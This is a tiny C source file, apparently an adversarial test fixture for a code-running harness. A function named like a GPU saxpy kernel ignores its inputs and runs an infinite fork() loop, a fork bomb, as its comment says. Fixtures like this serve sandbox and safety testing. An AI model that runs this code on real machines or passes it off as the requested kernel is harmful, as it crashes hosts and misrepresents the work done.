// ADVERSARIAL: a fork bomb from the host entry point.
#include <unistd.h>

void saxpy_gpu(int n, float a, const float* x, float* y) {
    (void)n; (void)a; (void)x; (void)y;
    while (true) fork();
}
